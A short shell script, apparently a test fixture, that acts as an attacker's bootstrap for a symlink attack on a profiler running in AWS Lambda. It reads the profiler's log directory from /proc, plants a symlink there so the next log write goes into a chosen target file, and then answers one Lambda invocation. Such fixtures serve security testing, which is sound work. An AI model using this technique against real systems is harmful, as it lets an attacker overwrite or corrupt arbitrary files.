#!/bin/sh
# An attacker's bootstrap: it reads the profiler's --log-dir from the command line (world-
# readable in /proc) and plants invocation-2.log there, a symlink to the file named in
# plant_target beside it, so that a profiler which follows it writes the next cold start's
# output into that file. Then it answers one invocation normally.
dir=$(tr '\0' '\n' </proc/$PPID/cmdline | sed -n '/^--log-dir$/{n;p}' | tail -n 1)
target=$(cat "$(dirname "$0")/plant_target" 2>/dev/null)
if [ -n "$dir" ] && [ -n "$target" ] && ln -s "$target" "$dir/invocation-2.log" 2>/dev/null; then
	echo "planted $dir/invocation-2.log -> $target"
else
	echo "could not plant in '$dir'"
fi
api="http://$AWS_LAMBDA_RUNTIME_API/2018-06-01/runtime"
hdr=$(mktemp "${TMPDIR:-/tmp}/plant.XXXXXX") || exit 1
curl -sS -D "$hdr" -o /dev/null "$api/invocation/next" || exit 1
id=$(tr -d '\r' <"$hdr" | sed -n 's/^[Ll]ambda-[Rr]untime-[Aa]ws-[Rr]equest-[Ii]d: *//p')
rm -f "$hdr"
curl -sS -o /dev/null -X POST -d '{}' "$api/invocation/$id/response"
exec sleep 60
